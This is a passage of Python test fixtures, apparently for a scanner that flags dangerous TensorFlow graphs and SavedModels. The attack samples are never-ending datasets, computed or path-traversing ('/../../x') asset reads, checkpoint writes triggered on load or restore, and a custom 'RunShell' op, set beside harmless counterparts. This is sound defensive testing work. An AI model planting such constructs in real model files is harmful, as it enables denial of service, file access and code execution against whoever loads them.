e = ShuffleAndRepeatDataset(d, l, l, l, none)[output_types=[float], output_shapes=[(2, 3)]]
y = ReduceDataset(e, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]
""",
    ),
    "a dataset in windows": Attack(
        "endless",
        """
f: (a: float, e: float) -> (r: float = a)
d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]
e = RepeatDataset(d, none)[output_types=[float], output_shapes=[(2, 3)]]
w = WindowDataset(e, l, l, l, no)[output_types=[float], output_shapes=[(2, 3)]]
y = ReduceDataset(w, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]
""",
    ),
    "an iterator of a dataset without an element": Attack(
        "endless",
        """
p: (e: float) -> (r: bool = t:output:0)
p: t = Const[dtype=bool, value=bool{false}()]
d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]
e = RepeatDataset(d, none)[output_types=[float], output_shapes=[(2, 3)]]
w = FilterDataset(e)[predicate=@p, Targuments=[], output_types=[float], output_shapes=[(2, 3)]]
it = OneShotIterator[dataset_factory=@df, output_types=[float], output_shapes=[(2, 3)]]
y = IteratorGetNext(it)[output_types=[float], output_shapes=[(2, 3)]]
df: () -> (r: variant = w:handle:0)
df: t = Const[dtype=float, value=float{1}(2, 3)]
df: d = TensorDataset(t:output:0)[Toutput_types=[float], output_shapes=[(2, 3)]]
df: m = Const[dtype=int64, value=int64{-1}()]
df: e = RepeatDataset(d:handle:0, m:output:0)[output_types=[float], output_shapes=[(2, 3)]]
df: w = FilterDataset(e:handle:0)[predicate=@p, Targuments=[], output_types=[float], output_shapes=[(2, 3)]]
""",
    ),
    "a dataset without an end": Attack(
        "endless",
        "f: (a: float, e: float) -> (r: float = a)\n"
        f"{_DATASET}e = RepeatDataset(d, none){_OF_DATASET}\n"
        "y = ReduceDataset(e, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]",
    ),
}

HARMLESS_GRAPHS: dict[str, str] = {
    "a loop that counts": _loop(
        "c: k = Const[dtype=int32, value=int32{9}()]\nc: q = Less(n, k:output:0)[T=int32]"
    ).replace("(q)", "(q:z:0)"),
    "a loop with a limit besides a condition that is true": _loop(
        "c: k = Const[dtype=int32, value=int32{9}()]\nc: p = Less(n, k:output:0)[T=int32]\n"
        "c: q = LogicalAnd(p:z:0, t:output:0)"
    ).replace("(q)", "(q:z:0)"),
    "a loop whose integers become too large for their squares": _loop(
        "c: k = Const[dtype=int32, value=int32{-1}()]\nc: p = Square(n)[T=int32]\n"
        "c: q = Greater(p:y:0, k:output:0)[T=int32]"
    ).replace("(q)", "(q:z:0)"),
    "a loop that does not run": _loop("c: q = LogicalNot(t:output:0)").replace("(q)", "(q:y:0)"),
    "a loop that the caller controls": "c: (n: bool) -> (r: bool = n)\ng: (n: bool) -> (r: bool = n)\n"
    "y = While(b)[T=[bool], cond=@c, body=@g]",
    "a loop of TensorFlow 1 that counts": 'e = Enter(i)[T=int32, frame_name="f"]\nm = Merge(e, n)[T=int32, N=2]\n'
    'k = Enter(i)[T=int32, frame_name="f", is_constant=true]\nq = Less(m, k)[T=int32]\nc = LoopCond(q)\n'
    "w = Switch(m, c)[T=int32]\na = AddV2(w:1, k)[T=int32]\nn = NextIteration(a)[T=int32]\ny = Exit(w)[T=int32]",
    "functions that call others": "g: (a: string) -> (r: string = a)\n"
    "f: (a: string) -> (r: string = n:output:0)\nf: n = PartitionedCall(a)[Tin=[string], Tout=[string], f=@g]\n"
    f"y = PartitionedCall(s){_CALL}",
    "a dataset of which a part is taken": "f: (a: float, e: float) -> (r: float = a)\n"
    f"{_DATASET}e = RepeatDataset(d, none){_OF_DATASET}\nt = TakeDataset(e, l){_OF_DATASET}\n"
    "y = ReduceDataset(t, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]",
    "a dataset of which some is taken": "f: (a: float, e: float) -> (r: float = a)\n"
    "p: (e: float) -> (r: bool = q:y:0)\np: k = Const[dtype=float, value=float{1}(2, 3)]\n"
    "p: o = Less(e, k:output:0)[T=float]\np: z = Const[dtype=int32, value=int32{0, 1}]\n"
    "p: a = All(o:z:0, z:output:0)[Tidx=int32]\np: q = LogicalNot(a:output:0)\n"
    f"{_DATASET}e = RepeatDataset(d, none){_OF_DATASET}\n"
    "t = TakeWhileDataset(e)[predicate=@p, Targuments=[], output_types=[float], output_shapes=[(2, 3)]]\n"
    "y = ReduceDataset(t, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]",
    "a dataset beside one that ends": "f: (a: float, e: float, o: float) -> (r: float = a)\n"
    f"{_DATASET}e = RepeatDataset(d, none){_OF_DATASET}\n"
    "t = ZipDataset(e, d)[N=2, output_types=[float, float], output_shapes=[(2, 3), (2, 3)]]\n"
    "y = ReduceDataset(t, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]",
    "a dataset without an element, of one that ends": "p: (e: float) -> (r: bool = t:output:0)\n"
    f"p: t = Const[dtype=bool, value=bool{{false}}()]\n{_DATASET}"
    "y = FilterDataset(d)[predicate=@p, Targuments=[], output_types=[float], output_shapes=[(2, 3)]]",
    "a saver of TensorFlow 1": 'm = Const[dtype=string, value=string{"model"}()]\n'
    "p = PlaceholderWithDefault(m)[dtype=string, shape=()]\nq = PlaceholderWithDefault(p)[dtype=string, shape=()]\n"
    'e = Const[dtype=string, value=string{"_temp_0123456789abcdef/part"}()]\n'
    "j = StringJoin(q, e)[N=2]\nn = ShardedFilename(j, i, i)\nv = SaveV2(n, keys, whole, x)[dtypes=[float]]\n"
    "k = Pack(n)[T=string, N=1, axis=0]\nu = MergeV2Checkpoints(k, q)\nr = RestoreV2(q, keys, whole)[dtypes=[float]]",
    "a saver in functions": "f: (a: string, e: float) -> (r: string = a)\nf: n = SaveV2(a, a, a, e)[dtypes=[float]]\n"
    "y = StatefulPartitionedCall(s, x)[Tin=[string, float], Tout=[string], f=@f]",
    "a constant of a package": 'y = ImmutableConst[dtype=float, shape=(1), memory_region_name="memmapped_package://a"]',
    "strings that are no paths": 'y = StringJoin(path, s)[N=2]\nz = StringLength(y)[unit="BYTE"]',
}


@dataclass(frozen=True)
class Model:
    """A graph with parts of a SavedModel: tensors that are the outputs, assets, what initializes, saves and restores.

    `saver` are the tensor that is fed with the path, the tensor that saves and the node that restores.
    """

    kind: str
    text: str
    outputs: Sequence[str] = ()
    assets: Sequence[str] = ()
    initial: str = ""
    saver: Sequence[str] = ()
    ops: Sequence[str] = ()

    @property
    def meta(self) -> MetaGraphDef:
        meta = MetaGraphDef(
            meta_info_def=MetaGraphDef.MetaInfoDef(tags=["serve"]),
            graph_def=graph(_NODES + self.text),
            signature_def={
                "serving_default": SignatureDef(
                    outputs={name: TensorInfo(name=name, dtype=DataType.DT_STRING) for name in self.outputs}
                )
            },
            asset_file_def=[AssetFileDef(filename="vocab", tensor_info=TensorInfo(name=name)) for name in self.assets],
        )
        if self.initial:
            nodes = CollectionDef.NodeList(value=[self.initial])
            meta.collection_def = {"saved_model_main_op": CollectionDef(node_list=nodes)}
        if self.saver:
            meta.saver_def = SaverDef(
                filename_tensor_name=self.saver[0], save_tensor_name=self.saver[1], restore_op_name=self.saver[2]
            )
        if self.ops:
            attribute = OpDef.AttrDef(name="filename", type="string", default_value=AttrValue(s=b""))
            own = [
                OpDef(
                    name=name,
                    input_arg=[OpDef.ArgDef(name="in", type=DataType.DT_STRING)],
                    output_arg=[OpDef.ArgDef(name="out", type=DataType.DT_STRING)],
                    attr=[attribute],
                )
                for name in self.ops
            ]
            meta.meta_info_def.stripped_op_list = OpList(op=own)
        return meta


_ASSET = 'p = Const[dtype=string, value=string{"vocab"}()]\n'
_TABLE = "t = HashTableV2[key_dtype=string, value_dtype=int64]\n"
_FILL = "[key_index=-2, value_index=-1]"

MODELS: dict[str, Model] = {
    "an asset that is computed": Model("read", "y = ReadFile(hidden)", ["y:0"], ["hidden:0"]),
    "an asset that is passed on": Model("read", "p = Identity(hidden)[T=string]\ny = ReadFile(p)", ["y:0"], ["p:0"]),
    "an asset that is joined": Model("read", "p = StringJoin(path, empty)[N=2]\ny = ReadFile(p)", ["y:0"], ["p:0"]),
    "an asset that is a default": Model(
        "read", "p = PlaceholderWithDefault(path)[dtype=string, shape=()]\ny = ReadFile(p)", ["y:0"], ["p:0"]
    ),
    "another output of the node of an asset": Model(
        "read",
        "k = Pack(path, path)[T=string, N=2, axis=0]\np = Unpack(k)[T=string, num=2, axis=0]\ny = ReadFile(p:1)",
        [],
        ["p:0"],
        "y",
    ),
    "the content of an asset names a file": Model(
        "read", f"{_ASSET}c = ReadFile(p)\ny = ReadFile(c)", [], ["p:0"], "y"
    ),
    "the content of an asset names a table": Model(
        "read",
        f"{_ASSET}{_TABLE}c = ReadFile(p)\ny = InitializeTableFromTextFileV2(t, c){_FILL}",
        [],
        ["p:0"],
        "y",
    ),
    "an asset or another file": Model(
        "read", f"{_ASSET}c = Select(no, p, hidden)[T=string]\ny = ReadFile(c)", [], ["p:0"], "y"
    ),
    "a file beside an asset": Model(
        "read",
        f'{_ASSET}e = Const[dtype=string, value=string{{"/../../x"}}()]\nc = StringJoin(p, e)[N=2]\ny = ReadFile(c)',
        [],
        ["p:0"],
        "y",
    ),
    "an asset that restoring reads": Model(
        "read",
        f"{_ASSET}c = ReadFile(p)\nr = Identity(c)[T=string]\nk = Identity(s)[T=string]",
        [],
        ["p:0"],
        "",
        ["s:0", "k:0", "r"],
    ),
    "saving an asset": Model("write", f"{_ASSET}y = SaveV2(p, keys, whole, ones)[dtypes=[float]]", [], ["p:0"], "y"),
    "saving while the model is loaded": Model(
        "write",
        "p = PlaceholderWithDefault(path)[dtype=string, shape=()]\nv = SaveV2(p, keys, whole, ones)[dtypes=[float]]\n"
        "k = Identity(p, ^v)[T=string]\nr = NoOp",
        [],
        [],
        "v",
        ["p:0", "k:0", "r"],
    ),
    "saving while the model is restored": Model(
        "write",
        "v = SaveV2(s, keys, whole, ones)[dtypes=[float]]\nk = Identity(s)[T=string]\nr = NoOp(^v)",
        [],
        [],
        "",
        ["s:0", "k:0", "r"],
    ),
    "saving when the model runs": Model(
        "write",
        "v = SaveV2(s, keys, whole, ones)[dtypes=[float]]\ny = Identity(s, ^v)[T=string]\nr = NoOp",
        ["y:0"],
        [],
        "",
        ["s:0", "y:0", "r"],
    ),
    "saving where another output than the one that is fed says": Model(
        "write",
        "q = Pack(path, path)[T=string, N=2, axis=0]\np = Unpack(q)[T=string, num=2, axis=0]\n"
        "v = SaveV2(p:1, keys, whole, ones)[dtypes=[float]]\n"
        "k = Identity(s, ^v)[T=string]\nr = NoOp",
        [],
        [],
        "",
        ["p:0", "k:0", "r"],
    ),
    "an op that only the model declares": Model("op", "y = RunShell(path)", ["y:0"], ops=["RunShell"]),
    "an op of a later version that the model declares": Model(
        "read", "y = TFRecordDatasetV2(path)", ["y:0"], ops=["TFRecordDatasetV2"]
    ),
    "an op of TensorRT that the model declares": Model(
        "write", "y = SerializeTRTResource(path)", ["y:0"], ops=["SerializeTRTResource"]
    ),
    "an op of TensorFlow that the model declares again": Model(
        "read", 'y = ReadFile(path)[filename=""]', ["y:0"], ops=["ReadFile"]
    ),
    "an op in a function that only the model declares": Model(
        "op",
        f"f: (a: string) -> (r: string = n:out:0)\nf: n = RunShell(a)\ny = StatefulPartitionedCall(path){_CALL}",
        ["y:0"],
        ops=["RunShell"],
    ),
}

HARMLESS_MODELS: dict[str, Model] = {
    "a table that is filled with an asset": Model(
        "", f"{_ASSET}{_TABLE}y = InitializeTableFromTextFileV2(t, p){_FILL}", [], ["p:0"], "y"
    ),
    "an asset that is passed on": Model(
        "",
        f"{_ASSET}{_TABLE}q = Identity(p)[T=string]\ny = InitializeTableFromTextFileV2(t, q){_FILL}",
        [],
        ["p:0"],
        "y",
    ),
    "an asset that is computed, and fed while the model is loaded": Model(
        "", f"{_TABLE}y = InitializeTableFromTextFileV2(t, hidden){_FILL}", [], ["hidden:0"], "y"
    ),
    "an asset in a placeholder": Model(
        "", "p = Placeholder[dtype=string, shape=()]\ny = ReadFile(p)", [], ["p:0"], "y"
    ),
    "saving and restoring at a default that is fed": Model(
        "",
        "p = PlaceholderWithDefault(path)[dtype=string, shape=()]\nv = SaveV2(p, keys, whole, ones)[dtypes=[float]]\n"
        "k = Identity(p, ^v)[T=string]\nq = RestoreV2(p, keys, whole)[dtypes=[float]]\nr = NoOp(^q)",
        [],
        [],
        "",
        ["p:0", "k:0", "r"],
    ),
}
